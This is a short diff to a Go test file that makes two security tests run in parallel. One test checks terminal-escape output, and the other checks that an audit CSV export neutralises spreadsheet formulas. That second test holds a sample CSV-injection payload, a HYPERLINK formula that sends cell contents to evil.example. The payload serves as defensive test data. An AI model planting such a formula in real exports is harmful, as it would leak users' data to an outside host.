@@ -55,6 +55,7 @@ func terminalEscapes(out string) []string {
 // carriage return rewrites a line, and the text still shows (escaped).
 // The JSON output still decodes to the stored text.
 func TestOperatorCommandsPrintNoTerminalEscapes(t *testing.T) {
+	t.Parallel()
 	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
 		fmt.Fprint(w, terminalAttack)
@@ -131,6 +132,7 @@ func TestOperatorCommandsPrintNoTerminalEscapes(t *testing.T) {
 // quoted cell after a single quote in the CSV export, which still reads
 // back and verifies; the JSON lines keep it as it is.
 func TestAuditCSVExportHasNoFormulas(t *testing.T) {
+	t.Parallel()
 	const formula = `=HYPERLINK("https://evil.example/?d="&B2&C2,"Click for details")`
 	h := newHarness(t, "")
 	root, card := h.deployFlow("Not deployed.")
